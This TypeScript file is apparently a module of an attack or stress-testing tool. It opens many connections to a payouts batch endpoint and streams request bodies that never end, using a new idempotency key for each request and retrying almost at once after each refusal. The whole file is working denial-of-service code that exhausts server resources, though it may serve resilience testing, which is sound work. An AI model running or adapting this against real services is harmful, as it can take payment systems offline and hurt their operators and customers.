/** Batches whose items never end, over a number of connections. */
import { randomUUID } from 'node:crypto';
import { Readable } from 'node:stream';
import { setTimeout as delay } from 'node:timers/promises';
import { Pool } from 'undici';
import type { Attack, Running } from './attack.ts';

/** Items of one write, some tens of kilobytes. */
const PART_ITEMS = 200;
/** Between a refusal and the next upload. */
const PAUSE_MS = 20;

export function uploadEndlessly(
  { url, key, item, connections }: Extract<Attack, { kind: 'uploads' }>,
  count: (outcome: string | number) => void,
): Running {
  const pool = new Pool(url, { connections });
  const headers = { authorization: `Bearer ${key}`, 'content-type': 'application/json' };
  const part = `${item},`.repeat(PART_ITEMS);
  let ended = false;

  async function* parts(): AsyncGenerator<string> {
    yield '{"items":[';
    while (!ended) yield part;
  }

  async function upload(): Promise<void> {
    const path = '/v1/payouts/batches';
    while (!ended) {
      try {
        const answer = await pool.request({
          ...{ method: 'POST' as const, path, body: Readable.from(parts()) },
          headers: { ...headers, 'idempotency-key': randomUUID() },
        });
        await answer.body.dump();
        count(answer.statusCode);
      } catch (error) {
        if (!ended) count((error as NodeJS.ErrnoException).code ?? (error as Error).name);
      }
      await delay(PAUSE_MS);
    }
  }

  for (let at = 0; at < connections; at++) void upload();
  return {
    underWay: Promise.resolve(),
    end() {
      ended = true;
      void pool.destroy();
    },
  };
}
